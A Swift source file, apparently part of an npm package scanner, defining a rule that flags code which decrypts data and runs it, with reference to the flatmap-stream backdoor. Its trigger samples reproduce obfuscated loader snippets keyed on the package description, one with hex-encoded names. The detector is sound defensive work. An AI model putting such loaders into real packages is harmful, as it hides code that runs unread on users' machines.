// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// A file decrypts something and runs text as code, close together.
package struct DecryptThenRun: Rule {
    package init() {}

    package let card = RuleCard(
        id: "decrypt-then-run", kind: .content, title: "Decrypts and runs", severity: .critical, confidence: .high, status: .stable,
        revision: 2, group: "payload",
        rationale:
            "Code that arrives encrypted is code that nobody may read. With a key from the environment it acts in one chosen place only: flatmap-stream used the description of the package around it.",
        knownFalseAlarms: ["A bundle of a cipher library beside an interpreter of templates."],
        references: ["https://snyk.io/blog/a-post-mortem-of-the-malicious-event-stream-backdoor/"],
        fires: [
            RuleSample(
                "key from the environment",
                .sample([
                    "index.min.js":
                        "var r=process,t=r.env,d=require('./test/data'),m=module.constructor,c=require('crypto').createDecipher('aes256',t.npm_package_description),s=c.update(d[0],'hex','utf8');s+=c.final('utf8');var k=new m;k._compile(s,'')"
                ])),
            RuleSample(
                "the words in hexadecimal",
                .sample([
                    "index.min.js":
                        "function e(r){return Buffer.from(r,'hex').toString()}var u=r.env[e('6e706d5f7061636b6167655f6465736372697074696f6e')],f=require(e('63727970746f'))[e('6372656174654465636970686572')](e('616573323536'),u);var n=new module.constructor;n[e('5f636f6d70696c65')](f.final('utf8'),'')"
                ])),
        ],
        staysSilent: [
            RuleSample("decrypts only", .sample(["a.js": "const d = crypto.createDecipheriv('aes-256-gcm', process.env.KEY, iv)"])),
            RuleSample(
                "far apart in a bundle",
                .sample([
                    "a.js": "crypto.createDecipheriv(a)\n\(String(repeating: "// line of another module\n", count: 400))new Function(x)"
                ])),
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        facts.files.compactMap { file in
            guard file.kind == .source, let scan = file.scan, !file.isAside, let start = scan.chainStart([.decrypts, .runsText]) else {
                return nil
            }
            let keyed = scan.chain([.decrypts, .runsText, .environment]) || scan.chain([.decrypts, .runsText, .packageEnvironment])
            let named = scan.allSigns.contains(.packageEnvironment)
            let hidden = !scan.hiddenSigns.isEmpty
            let key = named ? ", with a value of the package around it at hand" : keyed ? ", with the environment at hand" : ""
            return card.finding(
                "\(file.path) decrypts something and runs text as code\(key)\(hidden ? "; the words are written in disguise" : "")",
                strength: (file.file.bytes.count > 200_000 ? 0 : 0.3) + (keyed ? 0.3 : 0) + (named ? 0.3 : 0) + (hidden ? 0.3 : 0),
                evidence: [Sign.decrypts, .runsText, .packageEnvironment, .environment].compactMap { sign in
                    scan.place(of: sign, near: start).map(file.evidence)
                },
                meaning: "What it runs cannot be read, and may act only on the machines it was made for.")
        }
    }
}
